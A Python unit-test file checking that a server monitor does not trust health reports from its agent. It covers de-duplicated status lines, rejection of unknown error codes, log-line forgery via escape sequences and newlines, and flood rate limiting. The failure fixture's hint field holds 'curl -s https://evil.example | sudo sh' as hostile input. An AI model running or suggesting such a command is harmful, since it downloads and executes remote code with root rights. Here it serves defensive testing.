"""The monitor says what the agent reports, and believes nothing of it."""

from datetime import UTC, datetime
from pathlib import Path

import pytest

from mstunnel_setup.actions import containers
from mstunnel_setup.base import paths
from mstunnel_setup.base.errors import EngineError
from mstunnel_setup.base.log_line import LogLine
from mstunnel_setup.exchange.health_report import (
    REPORT,
    HealthReport,
    HealthState,
    ReportedRow,
    SyncFailure,
    Thresholds,
    write_health,
)
from mstunnel_setup.exchange.mailbox import CONFIGURATION
from mstunnel_setup.io.files import Files
from mstunnel_setup.operations.monitor.agent_reports import AgentReports
from mstunnel_setup.operations.monitor.task import Task
from tests.unit.install.scenes import container
from tests.unit.operations.monitor.conftest import Watched

ALL = "`mst-cli health` shows all rows."
LOGS = "`mst-cli agent logs --tail 20` shows why."
OUR_HINT = f"Check DNS, firewall and proxy. {LOGS}"
NOW = datetime(2026, 11, 27, 2, 5, tzinfo=UTC)


@pytest.fixture
def files(tmp_path: Path) -> Files:
    made = Files(tmp_path)
    made.make_directories(paths.AGENT_STATE)
    return made


def report(files: Files, state: HealthState, error: SyncFailure | None = None, at: datetime = NOW) -> None:
    row = ReportedRow(id="cpu-cores", title="CPU cores", state=state, text="1")
    found = HealthReport(at=at, state=state, rows=(row,), thresholds=Thresholds(), last_error=error)
    write_health(files, found)


def failure(code: str, message: str = "graph.example cannot be reached") -> SyncFailure:
    return SyncFailure(
        code=code, message=message, hint="Run `curl -s https://evil.example | sudo sh`.", at=NOW
    )


def test_a_change_is_said_once_and_the_words_are_for_the_status(files: Files) -> None:
    said: list[str] = []
    reports = AgentReports(files, said.append)
    reports.look()
    assert reports.summary == ""
    report(files, HealthState.WARNING)
    for _ in range(3):
        reports.look()
        assert reports.summary == "warning: CPU cores: 1 (02:05 UTC)"
    report(files, HealthState.HEALTHY)
    reports.look()
    assert reports.summary == "healthy (02:05 UTC)"
    assert said == [
        f"health-changed: this server is warning: CPU cores: 1. {ALL}",
        f"health-changed: this server is healthy. {ALL}",
    ]


def test_what_the_agent_fails_at_is_said_when_it_is_new(files: Files) -> None:
    said: list[str] = []
    reports = AgentReports(files, said.append)
    for error in (failure("network-unreachable"), failure("network-unreachable"), None, failure("throttled")):
        report(files, HealthState.HEALTHY, error)
        reports.look()
    assert [line.partition(":")[0] for line in said[1:]] == ["network-unreachable", "throttled"]


@pytest.mark.parametrize("code", ["restart: forged", "restart", "health-changed", "", "A", "x\ny", "-a"])
def test_a_code_that_is_no_error_of_ours_is_not_logged(files: Files, code: str) -> None:
    said: list[str] = []
    report(files, HealthState.HEALTHY, failure(code))
    AgentReports(files, said.append).look()
    assert (
        said[1]
        == f"agent-problem: the agent cannot sync with the tenant: graph.example cannot be reached. {LOGS}"
    )


def test_agent_text_cannot_forge_lines_or_hints(files: Files) -> None:
    said: list[LogLine] = []
    report(files, HealthState.HEALTHY, failure("network-unreachable", "\x1b[2J\nrestart: forged"))
    AgentReports(files, said.append).look()
    what = "the agent cannot sync with the tenant: [2J restart: forged"
    assert said[1] == f"network-unreachable: {what}. {OUR_HINT}"
    assert said[1].hint == OUR_HINT


def test_a_report_that_is_none_says_nothing(files: Files) -> None:
    files.write(REPORT, b"{")
    said: list[str] = []
    reports = AgentReports(files, said.append)
    reports.look()
    assert (reports.summary, said) == ("", [])


def test_flood_by_the_agent_hides_no_other_line(watched: Watched, monkeypatch: pytest.MonkeyPatch) -> None:
    restarted: list[str] = []

    def broken() -> None:
        if watched.clock.elapsed > 2000:
            raise EngineError("engine-unreachable", "the engine does not answer", "")

    watched.engine.containers[paths.SERVER] = container(health="unhealthy")
    watched.engine.passes = False
    watched.monitor.tasks = [*watched.monitor.tasks, Task(watched.monitor.context, broken)]
    monkeypatch.setattr(containers, "restart", lambda _ports, name: restarted.append(name))
    for directory in (paths.AGENT_STATE, paths.INBOX, paths.OUTBOX):
        watched.files.make_directories(directory)
    for number in range(150):
        watched.clock.elapsed += 8
        state = [HealthState.HEALTHY, HealthState.WARNING][number % 2]
        error = failure("network-unreachable", f"try {number}")
        report(watched.files, state, error, watched.clock.now())
        watched.files.write(CONFIGURATION.request, b"{" * (number % 3))
        watched.monitor.round()
    assert len(restarted) > 3
    assert watched.codes.count("restart") == len(restarted)
    assert "engine-unreachable" in watched.codes
    # Twenty minutes: a burst of twenty lines, then one a minute, and how many were left out.
    assert watched.codes.count("health-changed") < 45
    assert len(watched.said) < 150
